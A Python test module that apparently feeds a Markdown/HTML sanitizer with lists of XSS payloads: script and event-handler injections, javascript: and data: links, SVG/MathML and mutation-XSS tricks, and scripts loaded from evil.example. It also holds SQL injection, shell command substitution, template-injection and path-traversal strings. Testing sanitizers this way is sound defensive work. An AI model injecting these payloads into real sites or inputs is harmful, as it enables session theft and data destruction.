"""Attack strings of our own making: script, handlers, schemes, foreign content, Markdown tricks, mutation XSS."""

from collections.abc import Iterator
from pathlib import Path

TAB, NEWLINE, NBSP, LS = "\t", "\n", "\u00a0", "\u2028"

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img/src=x/onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>",
    "<p onclick=alert(1)>click</p>",
    "<a href=https://a.example onmouseenter=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<template><script>alert(1)</script></template>",
    "<portal src=//evil.example>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]
FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
]
MUTATION = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\<img src=x onerror=alert(1)\\>",
]
SCHEMES = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    f"[x](java{TAB}script:alert(1))",
    f"[x](<java{NEWLINE}script:alert(1)>)",
    f"[x](<{NBSP}javascript:alert(1)>)",
    f"[x](<{LS}javascript:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    "[x](<\u200bjavascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](java\\script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x](#fragment)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://a.example/track.gif)",
]
MARKDOWN = [
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example \"' onmouseover='alert(1)\")",
    '[x](https://a.example"onmouseover="alert(1))',
    '[x](<https://a.example/"><script>alert(1)</script>>)',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[a]: <https://a.example> 'x\" onclick=alert(1)'\n\n[a]",
    "**<script>alert(1)</script>**",
    "> <script>alert(1)</script>\n> * <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "<https://a.example/<script>alert(1)</script>>",
    'https://a.example/"onmouseover=alert(1)',
    "https://a.example/<img/src=x/onerror=alert(1)>",
    'a@b.example"onmouseover=alert(1)',
    "1<script>alert(1)</script>. one\n2. two",
    "99999999999999999999. <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "<br onclick=alert(1)>\n***<svg/onload=alert(1)>***",
    "[x](https://a.example)<a href=javascript:alert(1)>",
    "[" * 200 + "x" + "](javascript:alert(1))" * 200,
    ">" * 15 + "<img src=x onerror=alert(1)>",
]

ATTACKS = [*HTML, *FOREIGN, *MUTATION, *SCHEMES, *MARKDOWN]

HOSTILE = [
    "undefined null NaN -Infinity True 1/0 $HOME `id` $(id) {{7*7}} ${7*7} <%= 7*7 %>",
    "'; DROP TABLE threads_comment; -- \" OR 1=1 %s %(x)s {0} {x}",
    "Ω≈ç√∫˜µ≤≥÷ ¡™£¢∞§¶•ªº–≠ œ∑´®†¥¨ˆøπ“‘",
    "田中さんにあげて下さい 和製漢語 사회과학원 ﷽",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👋🏿 🇦🇽 0️⃣",
    "\u202eright to left\u202c \u2066isolate\u2069 \u200f",
    "\ufeffbyte order mark \ufffe \uffff \U0010ffff",
    "Z\u0351\u036b\u0343\u036aa\u0329\u0322l\u0323g\u031bo\u0347",
    "cafe\u0301 \u1e9b\u0323 \u212b \ufb01 \u0344",
    "line\u2028separator paragraph\u2029separator next\u0085line",
    "\x01\x02\x07\x08\x0b\x0c\x0e\x1b[31m\x7f controls",
    "../../../../etc/passwd%00 C:\\CON NUL COM1",
    "Roses are <b>red</b>, \\u0000 is not a NUL, nor is %00",
    "x" * 9_999 + "ß",
    "𝒯𝒽ℯ 𝓆𝓊𝒾𝒸𝓀 \ud7ff\ue000",
]


def _sections() -> dict[str, list[str]]:
    """{section: its lines} of attack_strings.txt."""
    sections: dict[str, list[str]] = {}
    for line in (Path(__file__).parent / "attack_strings.txt").read_text().splitlines():
        if line.startswith("[") and line.endswith("]"):
            current = sections[line[1:-1]] = []
        elif line and sections:
            current.append(line.encode("ascii").decode("unicode_escape"))
    return sections


def _combined() -> Iterator[str]:
    parts = _sections()
    yield from parts["whole"]
    for frames, inner in (("frames", "markup"), ("links", "addresses")):
        yield from (frame.replace("%s", each) for frame in parts[frames] for each in parts[inner])


COMBINED = list(dict.fromkeys(_combined()))
